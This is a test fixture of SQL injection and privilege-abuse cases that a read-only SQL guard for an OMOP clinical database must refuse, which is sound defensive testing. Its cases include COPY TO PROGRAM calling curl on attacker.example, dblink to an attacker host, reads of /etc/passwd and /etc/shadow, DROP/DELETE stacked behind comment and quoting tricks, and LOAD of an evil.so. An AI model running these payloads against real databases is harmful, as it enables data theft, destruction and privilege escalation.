-- Attack corpus for the SQL guard: every case here must be refused.
-- Format: each case starts with a "-- case: <short-name>" line; its SQL is
-- every following line up to the next case line or the end of the file.
-- Other "--" lines inside a case are part of its SQL.

-- case: insert-values
INSERT INTO person (person_id) VALUES (1)
-- case: insert-select
INSERT INTO omop.person SELECT * FROM omop.person
-- case: update
UPDATE person SET year_of_birth = 1900
-- case: update-from
UPDATE omop.person p SET year_of_birth = 1 FROM omop.death d WHERE d.person_id = p.person_id
-- case: delete
DELETE FROM person
-- case: delete-using
DELETE FROM omop.person USING omop.death WHERE death.person_id = person.person_id
-- case: merge
MERGE INTO person p USING death d ON p.person_id = d.person_id WHEN MATCHED THEN DELETE
-- case: truncate
TRUNCATE person
-- case: truncate-cascade
TRUNCATE TABLE omop.person, omop.death CASCADE
-- case: copy-to-stdout
COPY person TO STDOUT
-- case: copy-query-to-file
COPY (SELECT * FROM person) TO '/tmp/out.csv'
-- case: copy-from-program
COPY person FROM PROGRAM 'id > /tmp/pwned'
-- case: copy-to-program
COPY (SELECT 1) TO PROGRAM 'curl http://attacker.example/'
-- case: copy-from-file
COPY person FROM '/etc/passwd'
-- case: create-table
CREATE TABLE stolen (x text)
-- case: create-table-as
CREATE TABLE stolen AS SELECT * FROM person
-- case: create-temp-table-as
CREATE TEMP TABLE t AS SELECT * FROM person
-- case: create-view
CREATE VIEW v AS SELECT * FROM person
-- case: create-materialized-view
CREATE MATERIALIZED VIEW mv AS SELECT * FROM person
-- case: create-index
CREATE INDEX ON person (year_of_birth)
-- case: alter-table
ALTER TABLE person ADD COLUMN secret text
-- case: alter-role
ALTER ROLE data_analyst_reader SUPERUSER
-- case: drop-table
DROP TABLE person
-- case: drop-schema
DROP SCHEMA omop CASCADE
-- case: grant
GRANT ALL ON ALL TABLES IN SCHEMA omop TO PUBLIC
-- case: revoke
REVOKE SELECT ON person FROM data_analyst_reader
-- case: comment-on
COMMENT ON TABLE person IS 'pwned'
-- case: create-function
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$
-- case: create-function-atomic
CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END
-- case: create-extension
CREATE EXTENSION dblink
-- case: do-block
DO $$ BEGIN PERFORM pg_sleep(10); END $$
-- case: do-block-language
DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE omop.person'; END $body$
-- case: create-rule
CREATE RULE r AS ON SELECT TO person DO INSTEAD SELECT 1
-- case: create-trigger
CREATE TRIGGER t BEFORE INSERT ON person FOR EACH ROW EXECUTE FUNCTION f()
-- case: multi-select
SELECT 1; SELECT 2
-- case: multi-drop
SELECT * FROM person; DROP TABLE person
-- case: multi-after-comment
SELECT 1 -- harmless
; DELETE FROM person
-- case: multi-after-block-comment
SELECT 1 /* ; */ ; DELETE FROM person
-- case: multi-after-string-with-semicolon
SELECT 'a;b'; DELETE FROM person
-- case: multi-after-dollar-quote
SELECT $$;$$; DELETE FROM person
-- case: multi-after-tagged-dollar-quote
SELECT $tag$ ; DROP TABLE person; $tag$; DROP TABLE person
-- case: multi-after-escape-string
SELECT E'\';'; DROP TABLE person
-- case: multi-empty-trailing
SELECT 1; ;
-- case: multi-empty-leading
; SELECT 1
-- case: only-semicolons
; ;
-- case: only-comment
-- nothing but a comment
-- case: only-block-comment
/* nothing here */
-- case: multi-nested-comment
SELECT 1 /* outer /* inner */ still comment ; */ ; DROP TABLE person
-- case: select-into
SELECT * INTO stolen FROM person
-- case: select-into-temp
SELECT person_id INTO TEMP t FROM person
-- case: select-into-unlogged
SELECT 1 INTO UNLOGGED TABLE t
-- case: writable-cte-delete
WITH gone AS (DELETE FROM person RETURNING *) SELECT * FROM gone
-- case: writable-cte-insert
WITH x AS (INSERT INTO person (person_id) VALUES (1) RETURNING person_id) SELECT * FROM x
-- case: writable-cte-update
WITH x AS (UPDATE person SET year_of_birth = 1 RETURNING 1) SELECT count(*) FROM x
-- case: writable-cte-merge
WITH x AS (MERGE INTO person p USING death d ON p.person_id = d.person_id WHEN MATCHED THEN DELETE RETURNING p.person_id) SELECT * FROM x
-- case: writable-cte-nested
WITH outer_cte AS (WITH inner_cte AS (DELETE FROM person RETURNING *) SELECT * FROM inner_cte) SELECT * FROM outer_cte
-- case: writable-cte-in-subquery
SELECT * FROM (WITH d AS (DELETE FROM person RETURNING *) SELECT * FROM d) s
-- case: writable-cte-in-union-arm
SELECT 1 UNION ALL (WITH d AS (DELETE FROM person RETURNING 1) SELECT * FROM d)
-- case: for-update
SELECT * FROM person FOR UPDATE
-- case: for-share
SELECT * FROM person FOR SHARE
-- case: for-no-key-update
SELECT * FROM person FOR NO KEY UPDATE NOWAIT
-- case: for-key-share
SELECT * FROM person FOR KEY SHARE SKIP LOCKED
-- case: for-update-in-subquery
SELECT * FROM (SELECT * FROM person FOR UPDATE) s
-- case: for-update-in-cte
WITH locked AS (SELECT * FROM person FOR UPDATE OF person) SELECT * FROM locked
-- case: pg-sleep
SELECT pg_sleep(10)
-- case: pg-sleep-in-where
SELECT * FROM person WHERE pg_sleep(10) IS NOT NULL
-- case: pg-sleep-for
SELECT pg_sleep_for('10 seconds')
-- case: pg-sleep-until
SELECT pg_sleep_until(now() + interval '1 hour')
-- case: pg-sleep-qualified
SELECT pg_catalog.pg_sleep(1)
-- case: pg-sleep-uppercase
SELECT PG_SLEEP(1)
-- case: pg-sleep-quoted
SELECT "pg_sleep"(1)
-- case: pg-sleep-in-case
SELECT CASE WHEN (SELECT count(*) FROM person) > 0 THEN pg_sleep(5) END
-- case: pg-sleep-table-function
SELECT * FROM pg_sleep(5)
-- case: pg-read-file
SELECT pg_read_file('/etc/passwd')
-- case: pg-read-binary-file
SELECT pg_read_binary_file('/etc/shadow')
-- case: pg-ls-dir
SELECT pg_ls_dir('.')
-- case: pg-ls-dir-table-function
SELECT * FROM pg_ls_dir('/')
-- case: pg-ls-dir-lateral
SELECT * FROM person, LATERAL pg_ls_dir('/') f
-- case: pg-stat-file
SELECT pg_stat_file('postgresql.conf')
-- case: pg-read-file-qualified
SELECT pg_catalog.pg_read_file('/etc/passwd')
-- case: pg-read-file-omop-qualified
SELECT * FROM omop.pg_read_file('/etc/passwd')
-- case: lo-import
SELECT lo_import('/etc/passwd')
-- case: lo-export
SELECT lo_export(1234, '/tmp/x')
-- case: lo-get
SELECT lo_get(1234)
-- case: set-config
SELECT set_config('search_path', 'pg_catalog', false)
-- case: current-setting
SELECT current_setting('data_directory')
-- case: set-statement
SET search_path = pg_catalog
-- case: set-local
SET LOCAL statement_timeout = 0
-- case: set-role
SET ROLE postgres
-- case: set-session-authorization
SET SESSION AUTHORIZATION postgres
-- case: reset
RESET ALL
-- case: show
SHOW data_directory
-- case: pg-show-all-settings
SELECT * FROM pg_show_all_settings()
-- case: advisory-lock
SELECT pg_advisory_lock(1)
-- case: advisory-xact-lock
SELECT pg_advisory_xact_lock(42)
-- case: try-advisory-lock
SELECT pg_try_advisory_lock(1)
-- case: dblink
SELECT * FROM dblink('host=attacker.example', 'SELECT 1') AS t(x int)
-- case: dblink-exec
SELECT dblink_exec('dbname=omop', 'DROP TABLE person')
-- case: dblink-connect
SELECT dblink_connect('host=attacker.example')
-- case: schema-pg-catalog
SELECT * FROM pg_catalog.pg_authid
-- case: schema-pg-catalog-join
SELECT * FROM person p JOIN pg_catalog.pg_roles r ON true
-- case: schema-information-schema
SELECT * FROM information_schema.tables
-- case: schema-public
SELECT * FROM public.secrets
-- case: schema-uppercase-quoted
SELECT * FROM "OMOP".person
-- case: schema-mixed-case-quoted
SELECT * FROM "Omop".person
-- case: schema-unicode-escape
SELECT * FROM U&"\0070g_catalog".pg_class
-- case: schema-unicode-escape-custom
SELECT * FROM U&"!0070g_catalog" UESCAPE '!'.pg_authid
-- case: schema-pg-toast
SELECT * FROM pg_toast.pg_toast_1262
-- case: schema-pg-temp
SELECT * FROM pg_temp.t
-- case: schema-in-subquery
SELECT * FROM person WHERE person_id IN (SELECT oid::int FROM pg_catalog.pg_class)
-- case: schema-in-cte
WITH r AS (SELECT * FROM pg_catalog.pg_roles) SELECT * FROM r
-- case: schema-in-exists
SELECT 1 WHERE EXISTS (SELECT 1 FROM information_schema.columns)
-- case: schema-in-union
SELECT person_id::text FROM person UNION SELECT rolname::text FROM pg_catalog.pg_roles
-- case: cross-database
SELECT * FROM otherdb.omop.person
-- case: cross-database-unicode
SELECT * FROM a.U&"\0070g_catalog".pg_class
-- case: version
SELECT version()
-- case: current-user
SELECT current_user
-- case: session-user
SELECT session_user
-- case: current-role
SELECT current_role
-- case: user-keyword
SELECT user
-- case: current-schema
SELECT current_schema
-- case: current-catalog
SELECT current_catalog
-- case: current-database
SELECT current_database()
-- case: system-user
SELECT system_user
-- case: pg-backend-pid
SELECT pg_backend_pid()
-- case: inet-server-addr
SELECT inet_server_addr()
-- case: inet-client-addr
SELECT inet_client_addr()
-- case: has-table-privilege
SELECT has_table_privilege('omop.person', 'INSERT')
-- case: pg-get-viewdef
SELECT pg_get_viewdef('pg_roles')
-- case: pg-terminate-backend
SELECT pg_terminate_backend(1)
-- case: pg-cancel-backend
SELECT pg_cancel_backend(pid) FROM pg_stat_activity
-- case: txid-current
SELECT txid_current()
-- case: pg-notify
SELECT pg_notify('ch', 'payload')
-- case: nextval
SELECT nextval('omop.some_seq')
-- case: setval
SELECT setval('omop.some_seq', 1)
-- case: to-regclass
SELECT to_regclass('pg_authid')
-- case: format-function
SELECT format('%s', 1)
-- case: row-to-json
SELECT row_to_json(p) FROM person p
-- case: random
SELECT random()
-- case: cast-regclass
SELECT 'pg_authid'::regclass
-- case: cast-regclass-function-syntax
SELECT CAST('pg_authid' AS regclass)
-- case: cast-regproc
SELECT 'pg_sleep'::regproc
-- case: cast-regclass-qualified
SELECT 'pg_authid'::pg_catalog.regclass::oid
-- case: cast-regclass-array
SELECT ARRAY['pg_authid']::regclass[]
-- case: cast-typed-literal-regclass
SELECT regclass 'pg_authid'
-- case: cast-xml
SELECT '<a/>'::xml
-- case: cast-pg-lsn
SELECT '0/0'::pg_lsn
-- case: cast-oid
SELECT 1::oid
-- case: cast-function-style
SELECT regclass('pg_authid')
-- case: cast-in-where
SELECT * FROM person WHERE person_id = 'pg_class'::regclass::oid::int
-- case: xml-query-to-xml
SELECT query_to_xml('SELECT * FROM pg_authid', true, true, '')
-- case: xml-xpath
SELECT xpath('/a', '<a/>')
-- case: xml-element
SELECT xmlelement(name a, 'x')
-- case: xml-parse
SELECT xmlparse(document '<a/>')
-- case: xml-serialize
SELECT xmlserialize(content 'x' AS text)
-- case: xml-table
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS x text PATH '.')
-- case: xml-lateral-query-to-xml
SELECT * FROM person, LATERAL query_to_xml('SELECT 1', true, true, '') x
-- case: json-table
SELECT * FROM JSON_TABLE('[1]', '$[*]' COLUMNS (x int PATH '$'))
-- case: json-object
SELECT JSON_OBJECT('a' VALUE 1)
-- case: comment-hidden-drop
SELECT 1 /* comment */; /* another */ DROP TABLE person
-- case: comment-line-hidden-statement
SELECT 1
-- ; looks harmless
; DROP TABLE person
-- case: comment-in-function-name
SELECT pg_/**/sleep(1)
-- case: comment-between-schema
SELECT * FROM pg_catalog/**/./**/pg_authid
-- case: quoted-function-name-uppercase
SELECT "PG_SLEEP"(1)
-- case: dash-inside-string
SELECT '--'; DROP TABLE person
-- case: escape-string-quote
SELECT E'\'' ; DELETE FROM person
-- case: escape-string-backslash
SELECT E'\\'; DELETE FROM person -- '
-- case: standard-string-backslash
SELECT '\'; DELETE FROM person; SELECT '\'
-- case: dollar-quote-body
SELECT $body$ x $body$; DELETE FROM person
-- case: dollar-quote-nested
SELECT $a$ $b$ ; $b$ $a$; DROP TABLE person
-- case: unicode-escape-function
SELECT U&"\0070g_sleep"(1)
-- case: limit-subquery
SELECT * FROM person LIMIT (SELECT count(*) FROM person)
-- case: limit-case-blind
SELECT * FROM person LIMIT CASE WHEN (SELECT count(*) FROM death) > 5 THEN 1 ELSE 0 END
-- case: limit-expression
SELECT * FROM person LIMIT 1 + 1
-- case: limit-string
SELECT * FROM person LIMIT '5'
-- case: limit-cast
SELECT * FROM person LIMIT 5::int
-- case: limit-negative
SELECT * FROM person LIMIT -1
-- case: limit-decimal
SELECT * FROM person LIMIT 1.5
-- case: offset-subquery
SELECT * FROM person OFFSET (SELECT max(person_id) FROM person)
-- case: offset-case-blind
SELECT * FROM person OFFSET CASE WHEN EXISTS (SELECT 1 FROM death) THEN 1 ELSE 0 END
-- case: limit-in-subquery
SELECT * FROM (SELECT * FROM person LIMIT (SELECT 1)) s
-- case: limit-in-cte
WITH c AS (SELECT * FROM person LIMIT length(current_date::text)) SELECT * FROM c
-- case: fetch-first-expression
SELECT * FROM person FETCH FIRST (SELECT 1) ROWS ONLY
-- case: begin
BEGIN
-- case: start-transaction
START TRANSACTION READ WRITE
-- case: commit
COMMIT
-- case: rollback
ROLLBACK
-- case: savepoint
SAVEPOINT s1
-- case: begin-then-delete
BEGIN; DELETE FROM person; COMMIT
-- case: listen
LISTEN ch
-- case: notify
NOTIFY ch, 'payload'
-- case: unlisten
UNLISTEN *
-- case: prepare
PREPARE p AS SELECT * FROM person
-- case: execute
EXECUTE p
-- case: deallocate
DEALLOCATE ALL
-- case: declare-cursor
DECLARE c CURSOR FOR SELECT * FROM person
-- case: vacuum
VACUUM FULL person
-- case: analyze
ANALYZE person
-- case: cluster
CLUSTER person
-- case: reindex
REINDEX TABLE person
-- case: refresh-materialized-view
REFRESH MATERIALIZED VIEW mv
-- case: checkpoint
CHECKPOINT
-- case: call
CALL do_something()
-- case: lock
LOCK TABLE person IN ACCESS EXCLUSIVE MODE
-- case: discard
DISCARD ALL
-- case: load
LOAD '/tmp/evil.so'
-- case: explain
EXPLAIN SELECT * FROM person
-- case: explain-analyze-delete
EXPLAIN ANALYZE DELETE FROM person
-- case: alter-system
ALTER SYSTEM SET log_statement = 'none'
-- case: table-function-pg-stat-activity
SELECT * FROM pg_stat_get_activity(NULL)
-- case: table-function-json-each
SELECT * FROM json_each('{"a":1}')
-- case: table-function-regexp-split
SELECT * FROM regexp_split_to_table('a,b', ',')
-- case: table-function-qualified-generate-series
SELECT * FROM omop.generate_series(1, 3)
-- case: table-function-rows-from
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/')) r
-- case: table-function-column-definition-list
SELECT * FROM unnest(ARRAY[1]) AS t(x regclass)
-- case: table-function-sql-value
SELECT * FROM current_user
-- case: param-ref
SELECT * FROM person WHERE person_id = $1
-- case: param-ref-limit
SELECT * FROM person LIMIT $1
-- case: tablesample
SELECT * FROM person TABLESAMPLE SYSTEM (10)
-- case: qualified-operator
SELECT 1 OPERATOR(public.+) 1
-- case: values-pg-sleep
VALUES (pg_sleep(1))
-- case: function-in-order-by
SELECT person_id FROM person ORDER BY pg_sleep(1)
-- case: function-in-group-by
SELECT count(*) FROM person GROUP BY current_setting('server_version')
-- case: function-in-filter
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM person
-- case: function-in-window
SELECT row_number() OVER (ORDER BY pg_backend_pid()) FROM person
-- case: function-in-join-condition
SELECT * FROM person p JOIN death d ON pg_sleep(1) IS NULL
-- case: function-in-type-modifier
SELECT 'x'::varchar(pg_backend_pid())
-- case: function-named-argument
SELECT pg_read_file(filename => '/etc/passwd')
-- case: collation-for
SELECT COLLATION FOR ('x')
-- case: set-operation-hidden-function
SELECT 1 INTERSECT SELECT pg_backend_pid()
-- case: values-into
VALUES (1) UNION SELECT 1 INTO t
